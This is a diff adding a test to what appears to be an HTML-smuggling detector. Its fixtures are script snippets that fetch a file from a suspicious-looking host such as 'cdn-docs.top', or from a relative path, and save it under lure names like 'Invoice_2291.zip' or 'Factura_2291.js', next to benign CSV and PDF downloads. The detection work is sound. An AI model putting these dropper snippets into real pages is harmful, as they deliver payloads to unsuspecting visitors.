@@ -131,6 +131,22 @@ test('smuggling: a Blob counts with a decoder, a decoded payload or a runnable n
   for (const [name, html, smuggling] of table) assert.equal(analyzeHtml(`<html><body>${html}</body></html>`, LIMITS).smuggling, smuggling, name);
 });
 
+// Session 61 (helper mal62): the smuggler whose payload is behind an address — fetched into a Blob, then saved under a name.
+test('smuggling: a file fetched from a server as a Blob counts when saved under a runnable name; a fetched CSV or JSON does not', () => {
+  const fetchSave = (url: string, name: string): string => `<script>fetch("${url}").then(function (r) { return r.blob(); }).then(function (b) { var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "${name}"; document.body.appendChild(a); a.click(); });</script>`;
+  const xhrSave = (url: string, type: string, name: string): string => `<script>var x = new XMLHttpRequest(); x.open("GET", "${url}", true); x.responseType = "${type}"; x.onload = function () { window.navigator.msSaveOrOpenBlob(new Blob([x.response]), "${name}"); }; x.send();</script>`;
+  const table: [string, string, boolean][] = [
+    ['fetch → blob() → a.download of a .zip', fetchSave('https://cdn-docs.top/get/2291', 'Invoice_2291.zip'), true],
+    ['fetch → blob() → a.download of an .iso', fetchSave('/files/2291', 'Rechnung_2291.iso'), true],
+    ['XMLHttpRequest "blob" → msSaveOrOpenBlob of a .js', xhrSave('https://cdn-docs.top/get/2291', 'blob', 'Factura_2291.js'), true],
+    ['XMLHttpRequest "arraybuffer" → msSaveOrOpenBlob of a .7z', xhrSave('https://cdn-docs.top/get/2291', 'arraybuffer', 'NF_2291.7z'), true],
+    ['fetch → blob() → a.download of the report\'s CSV', fetchSave('/api/report.csv', 'report.csv'), false],
+    ['XMLHttpRequest "blob" → msSaveOrOpenBlob of a PDF statement', xhrSave('/statement/2025-05', 'blob', 'Statement_May.pdf'), false],
+    ['fetch → json(), no file saved', '<script>fetch("/api/items").then(function (r) { return r.json(); }).then(render);</script>', false],
+  ];
+  for (const [name, html, smuggling] of table) assert.equal(analyzeHtml(`<html><body>${html}</body></html>`, LIMITS).smuggling, smuggling, name);
+});
+
 test('smuggling: the saved names are read in bounded, linear time', () => {
   for (const unit of [' download="a.csv"', '.download = "x', 'mssaveoropenblob(a, "', 'new Blob([x]) ']) {
     const make = (n: number): string => `<script>URL.createObjectURL(b); a.click();</script>${unit.repeat(Math.ceil(n / unit.length))}`;
